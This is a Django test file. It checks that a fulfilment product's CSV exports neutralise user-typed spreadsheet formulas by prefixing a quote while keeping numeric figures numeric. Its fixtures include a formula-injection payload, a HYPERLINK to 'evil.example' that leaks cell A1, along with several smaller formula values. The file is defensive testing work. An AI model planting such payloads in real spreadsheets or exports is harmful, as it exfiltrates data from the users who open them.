"""Every CSV the product writes neutralises formula cells a user typed (issue 15 §3) and keeps numbers numeric."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.core import mail
from django.test import Client
from django.urls import reverse

from dom_project.tests.test_dashboard import PERIOD, history  # noqa: F401  (fixture)
from fulfillment.models import Endpoint
from fulfillment.services import outbox_message_add, outbox_message_deliver
from inventory.models import Location, Product, StockImport
from orders.models import Channel, Order
from routing.editor import services as editor
from routing.editor.models import Simulation
from routing.tests.editor_helpers import published_version
from routing.tests.helpers import make_order

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SHORT_LINK = '=HYPERLINK("//e.x","c")'  # fits a location code (32 characters)


def rows(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_dashboard_exports_quote_a_location_code_and_keep_figures_numeric(ops_user, history):  # noqa: F811
    Location.objects.filter(code="DC-EAST").update(code=SHORT_LINK)
    Channel.objects.filter(code="web").update(code="+1")
    c = client_for(ops_user)
    locations = rows(c.get(reverse("dashboard:export", args=["locations"]), PERIOD).content)
    assert ["'" + SHORT_LINK] in [r[:1] for r in locations]
    assert SHORT_LINK not in [r[0] for r in locations]
    figures = [cell for r in locations[1:] for cell in r[1:] if cell]
    assert figures and all(float(cell) == float(cell) for cell in figures)  # numbers, never quoted text
    channels = rows(c.get(reverse("dashboard:export", args=["channels"]), PERIOD).content)
    assert ["'+1"] in [r[:1] for r in channels]
    drill = rows(c.get(reverse("dashboard:drilldown-csv", args=["order_cycle_time"]), {**PERIOD, "all": "1"}).content)
    assert any(r[2] == "'" + SHORT_LINK for r in drill[1:]) and any(r[1] == "'+1" for r in drill[1:])
    assert {"+1", SHORT_LINK}.isdisjoint(cell for r in drill for cell in r)
    assert all(float(r[4]) >= 0 for r in drill[1:])  # figures are numbers


def test_import_error_report_quotes_what_the_file_said(inventory_user):
    job = StockImport.objects.create(
        original_name="x.csv",
        status="failed",
        rows_rejected=3,
        errors=[
            {"row": 2, "column": "sku", "value": "-2+3", "reason": "unknown SKU"},
            {"row": 3, "column": "location", "value": "@SUM(A1:A9)", "reason": "unknown location"},
            {"row": 4, "column": "on_hand", "value": LINK, "reason": "not a whole number"},
        ],
    )
    report = rows(client_for(inventory_user).get(f"/inventory/imports/{job.pk}/errors.csv").content)
    assert report == [
        ["row", "column", "value", "reason"],
        ["2", "sku", "'-2+3", "unknown SKU"],
        ["3", "location", "'@SUM(A1:A9)", "unknown location"],
        ["4", "on_hand", "'" + LINK, "not a whole number"],
    ]


def test_simulation_orders_export_quotes_an_order_number(web, product, merch_user):
    draft = editor.ruleset_draft_create(rule_set=published_version().rule_set, actor=merch_user)
    order = make_order(channel=web, lines=[(product, 1)])
    Order.objects.filter(pk=order.pk).update(number="=1+1")
    sim = Simulation.objects.create(rule_set=draft.rule_set, draft=draft, order_ids=[order.pk], created_by=merch_user)
    body = client_for(merch_user).get(reverse("routing:editor-simulation-orders", args=[sim.pk])).content
    assert rows(body) == [["order"], ["'=1+1"]]


def test_purchase_order_attachment_quotes_skus_and_keeps_quantities(dc):
    Endpoint.objects.create(location=dc, url="mailto:orders@supplier.example")
    msg = outbox_message_add(
        kind="purchase_order",
        location=dc,
        key="po:PO-9",
        payload={
            "purchase_order": "PO-9",
            "order": "W9",
            "currency": "USD",
            "lines": [{"sku": "@SUM(1+1)", "supplier_sku": "-2+3", "quantity": 2, "unit_cost": "3.00"}],
        },
    )
    assert outbox_message_deliver(message_id=msg.pk).status == "delivered"
    _, content, _ = mail.outbox[-1].attachments[0]
    assert rows(content)[1] == ["PO-9", "W9", "'@SUM(1+1)", "'-2+3", "2", "3.00", "USD"]


def test_admin_export_quotes_a_product_name_and_sku(dc):
    Product.objects.create(sku="+1", name=LINK, weight_grams=400)
    admin = User.objects.create_superuser("root", "root@example.com", "pw")
    c = client_for(admin)
    page = c.get("/admin/inventory/product/export/")
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": "0", "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith("productresource_")})
    resp = c.post("/admin/inventory/product/export/", data)
    assert resp.status_code == 200 and resp["Content-Type"].startswith("text/csv"), resp.content[:500]
    table = rows(resp.content)
    header, product = table[0], table[1]
    assert product[header.index("sku")] == "'+1"
    assert product[header.index("name")] == "'" + LINK
    assert product[header.index("weight_grams")] == "400"
